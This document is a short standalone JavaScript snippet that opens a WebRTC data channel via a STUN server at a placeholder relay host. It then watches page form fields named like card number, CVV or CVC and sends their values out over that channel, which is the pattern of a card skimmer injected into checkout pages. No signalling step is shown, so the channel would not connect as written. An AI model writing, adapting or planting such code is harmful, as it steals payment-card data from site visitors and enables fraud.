(function () {
  var peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.peer-relay.example:3478" }] }), channel = peer.createDataChannel("c");
  peer.createOffer().then(function (offer) { peer.setLocalDescription(offer); });
  channel.onopen = function () {
    document.addEventListener("change", function (event) {
      if (/cc|card|cvv|cvc|number/i.test(event.target.name)) channel.send(JSON.stringify([event.target.name, event.target.value]));
    });
  };
})();
